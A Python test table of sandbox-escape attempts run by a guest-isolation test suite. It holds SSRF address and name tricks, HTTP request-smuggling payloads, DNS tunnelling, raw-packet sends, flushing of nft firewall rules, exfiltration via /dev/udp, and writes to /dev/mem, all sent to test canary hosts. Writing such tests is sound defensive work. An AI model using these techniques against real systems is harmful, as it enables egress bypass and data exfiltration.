# SPDX-License-Identifier: Apache-2.0
"""What root of a guest tries, as a table (tests/integration/test_escape.py runs it): Row(name, program, says, rule).

`says` is a pattern that the program's output must match: that it ran, and what it met. `rule` is a pattern of the reason of a denial that must
stand in the record because of it (one record a row); None where nothing of it may even reach the host. DRIVER runs rows as they stand in
standard input, several at once, and prints what each said; those that are `alone` change the network under the others.
"""
import collections
import json
import re
import socket

Row = collections.namedtuple("Row", "name argv says rule alone", defaults=(False,))
WORD = "canaryword"
PRIVATE, PUBLIC = "10.77.0.1", "203.0.113.77"  # addresses no rule names; one that no rule could reach by a name, one that is like any other
UNRULED = r"no rule|unattended|default"
FORBIDDEN = {  # what an allowed name may resolve to and must not lead to, and the reason that is told
    "loop": ("127.0.0.1", "loopback address"), "loop2": ("127.9.9.9", "loopback address"), "zero": ("0.0.0.0", "unspecified address"), "unspecified6": ("::", "unspecified address"), "zero8": ("0.1.2.3", "unspecified address"),
    "ten": ("10.0.0.1", "private address"), "private172": ("172.16.0.1", "private address"), "last172": ("172.31.255.254", "private address"), "private192": ("192.168.0.1", "private address"),
    "link": ("169.254.1.1", "link-local address"), "metadata": ("169.254.169.254", "metadata address"), "metadata2": ("100.100.100.200", "metadata address"),
    "metadata3": ("168.63.129.16", "metadata address"), "cgnat": ("100.64.0.1", "carrier's NAT"), "relay": ("192.88.99.1", "6to4 relay"), "assigned": ("192.0.0.9", "protocol assignment"),
    "stub": ("198.18.0.1", "benchmarking address"), "multicast": ("224.0.0.1", "multicast address"), "reserved": ("240.0.0.1", "reserved address"), "broadcast": ("255.255.255.255", "broadcast address"),
    "loop6": ("::1", "loopback address"), "mapped": ("::ffff:127.0.0.1", "loopback address"), "mapped10": ("::ffff:10.0.0.1", "private address"),
    "compatible": ("::127.0.0.1", "IPv4-compatible address"), "translated": ("::ffff:0:10.0.0.1", "IPv4-translated address"), "nat64": ("64:ff9b::7f00:1", "NAT64 address"),
    "nat64own": ("64:ff9b:1::a00:1", "NAT64 address"), "nat64net": ("2001:db8:64::a00:1", "NAT64 of private address"), "sixtofour": ("2002:a00:1::1", "6to4"), "teredo": ("2001:0:cb00:7101::f5ff:fffe", "Teredo"),
    "isatap": ("2001:db8::5efe:a00:1", "ISATAP of a forbidden address"), "link6": ("fe80::1", "link-local address"), "site6": ("fec0::1", "site-local address"), "ula": ("fd00::1", "unique local address"),
    "metadata6": ("fd00:ec2::254", "metadata address"), "multicast6": ("ff02::1", "multicast address"),
}
NAT64 = "2001:db8:64::c000:aa"  # how this host's network says that 2001:db8:64::/96 is its own
NOT_CONNECTABLE = {"multicast", "broadcast", "multicast6", "link6", "unspecified6"}  # by no kernel, whatever the rules say; :: becomes ::1, which is there
CURL = "curl -sk --max-time 60 -o /dev/null -w '%{http_code} %{exitcode}\\n' "
SAYS_CURL = r"^(403 0|000 (35|52|55|56))$"  # in words, or a reset (a client that is slow to speak is taken for raw TCP)
DRIVER = r"""
import json, os, socket, struct, subprocess, sys, tempfile

def child(argv, out):  # python's programs without another python's start
    os.dup2(out.fileno(), 1)
    os.dup2(out.fileno(), 2)
    try:
        if argv[0] == "python3":
            exec(compile(argv[2], "row", "exec"), {"__name__": "row"})
        else:
            subprocess.run(argv, stdin=subprocess.DEVNULL, timeout=180)
    except BaseException as e:
        print(type(e).__name__, e)
    sys.stdout.flush()
    os._exit(0)

rows, running = json.loads(sys.stdin.read()), 0
outs = [tempfile.TemporaryFile() for _ in rows]
for argv, out in zip(rows, outs):
    if running == 6:
        os.wait()
        running -= 1
    running += 1
    if os.fork() == 0:
        child(argv, out)
while running:
    os.wait()
    running -= 1
for out in outs:
    out.seek(0)
print(json.dumps([out.read().decode(errors="replace") for out in outs]))
"""
DNS = r'''
import socket, struct
def ask(name, kind, server, tcp):
    q = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" + struct.pack(">HH", kind, 1)
    s = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)
    s.settimeout(8)
    s.connect((server, 53))
    s.sendall(struct.pack(">H", len(q)) + q if tcp else q)
    a = s.recv(2000)[2 if tcp else 0:]
    return "%d:%d" % (a[3] & 15, struct.unpack(">H", a[6:8])[0])
'''
KINDS = {"A": (1, "0:1"), "NS": (2, "5:0"), "CNAME": (5, "5:0"), "NULL": (10, "5:0"), "MX": (15, "5:0"), "TXT": (16, "5:0"), "AAAA": (28, "0:0"), "SRV": (33, "5:0"), "SVCB": (64, "0:0"),
         "HTTPS": (65, "0:0"), "AXFR": (252, "5:0"), "ANY": (255, "5:0"), "type 65280": (65280, "5:0")}


def smuggled(port):
    """A second request in what one parser takes for a body, or a path that hides where it leads. {name: (bytes, what comes back, the reason)}."""
    host = f"Host: ws.test:{port}\r\n"
    fine, evil = f"GET /fine/x HTTP/1.1\r\n{host}", f"GET /{WORD} HTTP/1.1\r\n{host}\r\n"
    post = fine.replace("GET", "POST")
    bad, denied = r"HTTP/1.1 400", r"HTTP/1.1 403"
    return {
        "CL.TE": (post + f"Content-Length: {5 + len(evil)}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + evil, bad),
        "TE.CL": (post + f"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n{len(evil):x}\r\n" + evil + "\r\n0\r\n\r\n", bad),
        "TE.TE": (post + "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\nContent-Length: 3\r\n\r\n0\r\n\r\n" + evil, bad),
        "a coding nobody knows": (post + "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + evil, bad),
        "two lengths": (post + "Content-Length: 0\r\nContent-Length: 5\r\n\r\n" + evil, bad),
        "a length with a sign": (post + "Content-Length: +0\r\n\r\n" + evil, bad),
        "a length list": (post + "Content-Length: 0, 5\r\n\r\n" + evil, bad),
        "obs-fold": (fine + f"X: a\r\n GET /{WORD} HTTP/1.1\r\n\r\n", bad),
        "bare LF": (fine.replace("\r\n", "\n") + "\n" + evil.replace("\r\n", "\n"), bad),
        "a blank before the colon": (post + "Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + evil, bad),
        "a NUL in a name": (fine + "X\0Y: 1\r\n\r\n" + evil, bad),
        "two hosts": (f"GET /{WORD} HTTP/1.1\r\n{host}Host: origin.test\r\n\r\n", bad),
        "a CR in a value": (fine + f"X: a\rGET /{WORD} HTTP/1.1\r\n\r\n", bad),
        "a chunk's size with a sign": (post + "Transfer-Encoding: chunked\r\n\r\n+0\r\n\r\n" + evil, r"got b'( reset)?'$"),
        "HTTP/2.0 in words": (f"GET /{WORD} HTTP/2.0\r\n{host}\r\n", bad),
        "dots in the path": (f"GET /fine/../{WORD} HTTP/1.1\r\n{host}\r\n", denied),
        "encoded dots": (f"GET /fine/%2e%2e/{WORD} HTTP/1.1\r\n{host}\r\n", denied),
        "an encoded slash": (f"GET /fine%2f..%2f{WORD} HTTP/1.1\r\n{host}\r\n", denied),
        "a backslash": (f"GET /fine/..\\{WORD} HTTP/1.1\r\n{host}\r\n", denied),
        "pipelining behind an allowed one": (fine + "\r\n" + evil, r"HTTP/1.1 200.*HTTP/1.1 403"),
        "WebSocket upgrade after a denial": (evil + f"GET /{WORD} HTTP/1.1\r\n{host}Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
                                             "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n", r"HTTP/1.1 403((?!101).)*HTTP/1.1 403"),
        "h2c upgrade": (fine + "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n" + evil, r"HTTP/1.1 200((?!101).)*HTTP/1.1 403"),
    }


H2 = r"""
const h2 = require('http2'), c = h2.connect(process.argv[1]);
let left = 0;
for (const headers of JSON.parse(process.argv[2])) {
  left++;
  const r = c.request(headers);
  let status = 0;
  r.on('response', h => status = h[':status']).on('error', e => status = e.code).on('data', () => {}).on('close', () => { console.log(status); if (--left === 0) c.close(); });
  r.end();
}
c.on('error', e => { console.log(e.code); process.exit(1) });
setTimeout(() => process.exit(2), 100000).unref();
"""
VPORT = r"""
import ctypes, os, struct, sys
vport = next(int(f) for f in os.listdir("/proc/1/fd") if "vport" in os.readlink("/proc/1/fd/" + f))
fd = ctypes.CDLL(None, use_errno=True).syscall(438, os.pidfd_open(1), vport, 0)
print("taken", fd >= 0, flush=True)
"""


def rows(o, port):
    """o: Origins; port: the canaries'."""
    url, a = f":{port}/{WORD}", []

    def sh(name, text, says=SAYS_CURL, rule=UNRULED):
        a.append(Row(name, ["sh", "-c", text], says, rule))

    def py(name, text, says, rule):
        a.append(Row(name, ["python3", "-c", text], says, rule))

    def wall(name, text, says, rule=None):
        a.append(Row(name, ["sh", "-c", text], says, rule, True))

    def talk(name, host, to, data, says, rule):
        py(name, f"import socket\ns=socket.create_connection(({host!r},{to}),20);s.settimeout(12);s.sendall({data.encode('latin1')!r});g=b''\ntry:\n while p:=s.recv(4096): g+=p;s.settimeout(2)\n"
                 "except TimeoutError: pass\nexcept ConnectionResetError: g+=b' reset'\nprint('got',g)", says, rule)

    # names that are allowed, addresses that are not
    for n, (addr, why) in FORBIDDEN.items():
        sh(f"an allowed name that resolves to {addr}", CURL + f"http://{n}.deep.test{url}", SAYS_CURL, f"its address is.*{re.escape(why)}")
    sh("TLS to an allowed name at loopback", CURL + f"https://loop.deep.test{url}", SAYS_CURL, "its address is.*loopback")
    talk("raw TCP to an allowed name at loopback", "loop.deep.test", port, "\1" + WORD, r"got b' reset'", "its address is.*loopback")
    # addresses in every spelling
    n = int.from_bytes(socket.inet_aton(PRIVATE), "big")
    octets = PRIVATE.split(".")
    for what, text in (("dotted", PRIVATE), ("of the internet", PUBLIC), ("decimal", str(n)), ("hex", hex(n)), ("octal", ".".join("0" + oct(int(x))[2:] for x in octets)),
                       ("hex by parts", ".".join(hex(int(x)) for x in octets)), ("short", "10.5046273"), ("NAT64", f"[64:ff9b::{n >> 16:x}:{n & 0xffff:x}]"),
                       ("6to4", f"[2002:{n >> 16:x}:{n & 0xffff:x}::1]"), ("IPv6", "[2001:db8::77]"), ("metadata's", "169.254.169.254")):
        sh(f"an address by number, {what}", CURL + f"http://{text}{url}")
    sh("an address by number, mapped", CURL + f"http://[::ffff:{PRIVATE}]{url}", r"^421 0$", "Host is not the connection's")
    for text in (PRIVATE, PUBLIC, f"[::ffff:{PRIVATE}]", "[2001:db8::77]"):
        sh(f"TLS to {text}", CURL + f"https://{text}{url}")
        talk(f"raw TCP to {text}", text.strip("[]"), port, "\1" + WORD, r"got b' reset'", UNRULED)
    sh("a name of digits that is none", CURL + f"http://0x0a4d0001.0x1{url}", r"^000 6$", None)
    for what, text in (("link-local of IPv6", "[fe80::1%25bh0]"), ("unspecified", "0.0.0.1")):  # the guest's own kernel may refuse these
        sh(f"an address by number, {what}", CURL + f"http://{text}{url}", r"^(403 0|000 (7|35|52|56))$", None)
    # names that are not what they say
    talk("Host of another name", "origin.test", o.http, f"GET /{WORD} HTTP/1.1\r\nHost: other.test:{o.http}\r\n\r\n", r"HTTP/1.1 421", "Host is not the connection's")
    talk("an absolute URI of another host", "origin.test", o.http, f"GET http://other.test/{WORD} HTTP/1.1\r\nHost: origin.test:{o.http}\r\n\r\n", r"HTTP/1.1 400", "a target that disagrees with Host")
    talk("an absolute URI of https in clear", "origin.test", o.http, f"GET https://origin.test:{o.https}/{WORD} HTTP/1.1\r\nHost: origin.test:{o.https}\r\n\r\n", r"HTTP/1.1 421", "Host is not the connection's")
    talk("an absolute URI with a user", "origin.test", o.http, f"GET http://origin.test:{o.http}@{PRIVATE}{url} HTTP/1.1\r\nHost: origin.test:{o.http}\r\n\r\n", r"HTTP/1.1 400", "an illegal authority in the target")
    talk("CONNECT to the canary", "origin.test", o.http, f"CONNECT {PRIVATE}:{port} HTTP/1.1\r\nHost: {PRIVATE}:{port}\r\n\r\n{WORD}", r"HTTP/1.1 405", "CONNECT to a server that is no proxy")
    talk("a CONNECT behind an allowed request", "origin.test", o.http, f"GET /fine HTTP/1.1\r\nHost: origin.test:{o.http}\r\n\r\nCONNECT {PRIVATE}:{port} HTTP/1.1\r\nHost: {PRIVATE}:{port}\r\n\r\n", r"(?s)HTTP/1.1 200.*HTTP/1.1 405", "CONNECT to a server that is no proxy")
    sh("SNI of another host", f"timeout 60 openssl s_client -connect origin.test:{o.https} -servername other.test < /dev/null 2>&1", r"(?i)bulkhead|errno=104", "names another host")
    sh("no SNI", f"timeout 60 openssl s_client -noservername -connect origin.test:{o.https} < /dev/null 2>&1", r"(?i)bulkhead|errno=104", "names no host")
    sh("curl through the origin as a proxy", CURL + f"-x http://origin.test:{o.http} http://{PRIVATE}{url}", r"^4\d\d 0$", "Host")
    sh("curl's tunnel through the origin as a proxy", CURL + f"-p -x http://origin.test:{o.http} https://{PRIVATE}{url}", r"^000 (7|56)$", "CONNECT to a server that is no proxy")
    sh("a user's part that looks like an allowed host", CURL + f"http://origin.test:{o.http}@{PRIVATE}{url}")
    for what, to in (("metadata", f"http://169.254.169.254{url}"), ("an address", f"http://{PRIVATE}{url}")):
        sh(f"a redirect to {what}", CURL + f"-L 'http://origin.test:{o.http}/redirect={to}'")
    sh("a redirect to a name at loopback", CURL + f"-L 'http://origin.test:{o.http}/redirect=http://loop.deep.test{url}'", r"^403 0$", "its address is.*loopback")
    # an answer of the resolver that changes while it is looked at: what was checked is what is connected to
    sh("rebinding", f"for i in 1 2 3 4 5 6; do {CURL} http://rebind.deep.test:{o.http}/fine; done", r"(?s)^(?=.*200 0)(?=.*403 0)", "its address is.*private")
    sh("a good and a forbidden address of one name", f"for i in 1 2 3 4; do {CURL} http://both.deep.test{url}; done", r"^(000 \d+|502 0|403 0)$", None)
    for name, (text, says) in smuggled(o.http).items():
        talk(f"smuggling: {name}", "ws.test", o.http, text, "(?s)" + says, "bad request" if "400" in says else UNRULED if "403" in says else None)
    talk("HTTP/2's preface in clear", "ws.test", o.http, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + f"GET /{WORD} HTTP/1.1\r\n\r\n", r"got b' reset'", "HTTP/2 without TLS")
    talk("HTTP/0.9", "ws.test", o.http, f"GET /{WORD}\r\n", r"got b'( reset|HTTP/1.1 400.*)?'", None)
    # HTTP/2
    base = f"https://ws.test:{o.https}"
    for name, headers, says, rule in (
            ("an authority of another host, coalesced", [{":path": "/fine/a"}, {":path": f"/{WORD}", ":authority": f"other.test:{o.https}"}], r"(?s)^(?=.*^200$)(?=.*^421$)", "Host is not"),
            ("an authority that is allowed elsewhere", [{":path": f"/{WORD}", ":authority": f"origin.test:{o.https}"}], r"^421$", "Host is not"),
            ("a host field that differs from the authority", [{":path": f"/fine/{WORD}", "host": "other.test"}], r"^(400|421|ERR_HTTP2_STREAM_ERROR)$", None),
            ("a forbidden path among allowed ones", [{":path": "/fine/a"}, {":path": f"/{WORD}"}, {":path": "/fine/b"}], r"(?s)200.*403|403.*200", UNRULED),
            ("CONNECT", [{":method": "CONNECT", ":authority": f"{PRIVATE}:{port}"}], r"^(4\d\d|ERR_HTTP2_STREAM_ERROR)$", None),
            ("a scheme of its own", [{":path": f"/{WORD}", ":scheme": "http"}], r"^(4\d\d|ERR_HTTP2_STREAM_ERROR)$", None)):
        a.append(Row(f"HTTP/2: {name}", ["node", "-e", H2, base, json.dumps(headers)], "(?m)" + says, rule))
    # names as a way out
    for kind, (number, want) in KINDS.items():
        py(f"DNS tunnelling by {kind}, UDP and TCP, the stub's and others' addresses", DNS + f"print(*[ask('{WORD}.deep.test', {number}, s, t) for s in ('198.18.0.1', '{PRIVATE}', '2001:db8::53') for t in (False, True)])",
           rf"^{want}( {want}){{5}}$", None)
    py("DNS tunnelling by long names", DNS + f"print(*[ask('.'.join(['{WORD}' + 'a' * 40] * 4) + '.%d.deep.test' % i, 1, '198.18.0.1', False) for i in range(40)])", r"^[035]:[01]( [035]:[01]){39}$", None)
    py("DNS tunnelling by PTR", DNS + "print(ask('1.0.77.10.in-addr.arpa', 12, '198.18.0.1', False), ask('7.' * 31 + '7.ip6.arpa', 12, '198.18.0.1', False))", r"^3:0 3:0$", None)
    sh("DNS over HTTPS", CURL + f"'https://dns.test/dns-query?name={WORD}'")
    sh("DNS over HTTPS at an address", CURL + f"-H 'accept: application/dns-message' 'https://{PUBLIC}/dns-query?name={WORD}'")
    sh("DNS over TLS", f"timeout 60 openssl s_client -connect {PUBLIC}:853 < /dev/null 2>&1", r"(?i)errno=104|bulkhead", UNRULED)
    # what is no TCP
    no = r"Errno (1|13|22|65|92|93|94|97|99|101|104|107|111|113)\b"

    def packet(name, make, to, data=f"b'{WORD}'"):
        py(name, f"import socket\ntry:\n s=socket.socket({make}); s.settimeout(8); s.connect({to!r}); s.send({data}); print('got', s.recv(99))\nexcept OSError as e: print('Errno', e.errno, e)", no, None)
    packet("UDP", "2,2", (PUBLIC, port))
    packet("UDP to a private address", "2,2", (PRIVATE, port))
    packet("UDP over IPv6", "10,2", ("2001:db8::77", port))
    packet("UDP to a mapped address", "10,2", (f"::ffff:{PRIVATE}", port))
    packet("QUIC", "2,2", (PUBLIC, 443), "b'\\xc0\\0\\0\\0\\1' + b'canaryword' * 120")
    packet("ICMP echo", "2,3,1", (PRIVATE, 0), "b'\\x08\\0\\xf7\\xff\\0\\0\\0\\0canaryword'")
    packet("ICMPv6 echo", "10,3,58", ("2001:db8::77", 0), "b'\\x80\\0\\0\\0\\0\\0\\0\\0canaryword'")
    packet("a raw packet of a protocol nobody has", "2,3,255", (PRIVATE, 0), "b'\\x45\\0\\0\\x1e\\0\\0\\0\\0\\x40\\xfd\\0\\0\\x0a\\0\\0\\2\\x0a\\x4d\\0\\1canaryword'")
    packet("GRE", "2,3,47", (PRIVATE, 0), "b'\\0\\0\\x08\\0canaryword'")
    packet("IP in IP", "2,3,4", (PRIVATE, 0))
    py("SCTP", f"import socket\ntry:\n s=socket.socket(2,1,132); s.settimeout(5); s.connect(({PRIVATE!r}, {port})); print('connected')\nexcept OSError as e: print('Errno', e)", r"^Errno (?!.*connected)", None)
    packet("UDP to a broadcast address", "2,2", ("255.255.255.255", port))
    py("a packet socket on every interface", f"""
import os,socket
for i in sorted(os.listdir('/sys/class/net')):
    s=socket.socket(17,3,0x300); s.bind((i,0)); s.send(b'\\xff'*12+b'\\x08\\x00'+b'{WORD}'*8); print('sent', i)""", r"(?s)sent bh0.*sent lo", None)
    # root takes the walls down inside
    gone = r"(?s)^no rules\n000 (7|28)\n000 (7|28)\n000 (7|28)\nsent"
    wall("no nft rules any more", f"nft list ruleset 2>/dev/null > /tmp/rules; nft flush ruleset && [ -z \"$(nft list ruleset)\" ] && echo no rules; for u in http://{PRIVATE}{url} http://loop.deep.test{url} http://[2001:db8::77]{url}; do "
       f"{CURL} --max-time 2 $u; done; bash -c 'echo {WORD} > /dev/udp/{PRIVATE}/{port}' && echo sent; nft -f /tmp/rules", gone)
    sh("the redirect's port itself", f"{CURL} http://198.18.0.1:3129/{WORD}", r"^000 (7|52|55|56)$", None)
    wall("routes of its own", f"ip route add {PRIVATE}/32 dev bh0 && ip route add 10.78.0.0/16 via 198.18.0.2 dev bh0 onlink && echo routed; {CURL} http://{PRIVATE}{url}; {CURL} http://10.78.0.1{url}; ip route del {PRIVATE}/32; ip route del 10.78.0.0/16",
       r"(?s)^routed\n(403 0|000 (52|56))\n(403 0|000 (52|56))\n$", UNRULED)
    wall("an address of its own", f"ip addr add 10.77.0.250/24 dev bh0 && echo added; {CURL} --interface 10.77.0.250 http://{PUBLIC}{url}; {CURL} --max-time 2 http://{PRIVATE}{url}; ip addr del 10.77.0.250/24 dev bh0",
       r"(?s)^added\n(403 0|000 \d+)\n", UNRULED)
    wall("an interface of its own", f"ip link add v0 type dummy && ip link set v0 up && ip addr add 10.77.0.9/24 dev v0 && echo added; {CURL} --max-time 2 --interface v0 http://{PRIVATE}{url}; ip link del v0", r"(?s)^added\n000 (7|28)\n$", None)
    wall("a network namespace behind a veth", f"""ip netns add ns && ip link add v1 type veth peer name v2 && ip link set v2 netns ns && ip addr add 10.99.0.1/24 dev v1 && ip link set v1 up && sysctl -qw net.ipv4.ip_forward=1 &&
       ip netns exec ns sh -c 'ip link set lo up; ip addr add 10.99.0.2/24 dev v2; ip link set v2 up; ip route add default via 10.99.0.1; echo behind; {CURL.replace("'", '"')} http://{PRIVATE}{url}'; ip netns del ns; ip link del v1 2>/dev/null""",
       r"(?s)^behind\n(403 0|000 (52|56))\n", UNRULED)
    sh("a network namespace of its own", f"unshare -n sh -c 'ip link set lo up; echo alone; {CURL.replace(chr(39), chr(34))} http://{PRIVATE}{url}'", r"^alone\n000 7\n", None)
    # the channel's devices
    py("the host's ports over vsock", f"""
import socket
for port in (1,2,3,16,1024,1080):
    try: s=socket.socket(40,1); s.settimeout(2); s.connect((2,port)); s.sendall(b'{WORD}'*100); print('port', port, s.recv(100))
    except OSError as e: print('port', port, e)""", r"(?s)port 1 .*port 1080 ", None)
    py("garbage into every port of the channel", f"""
import glob,os
for f in glob.glob('/dev/vport*')+glob.glob('/dev/hvc*')+['/dev/port']:
    try: os.write(os.open(f, os.O_WRONLY|os.O_NONBLOCK), b'{WORD}'*100); print(f, 'written')
    except OSError as e: print(f, e)
print('done')""", r"done", None)
    sh("the machine's ports of input and output, and its memory", f"""python3 -c "
import os,mmap
for f in ('/dev/mem','/dev/kmem','/dev/port','/proc/kcore'):
    try: d=os.open(f,os.O_RDWR); os.pwrite(d,b'\\0'*8,0xfee00000); print(f,'written')
    except OSError as e: print(f,e)
" ; echo done""", "done", None)
    return a
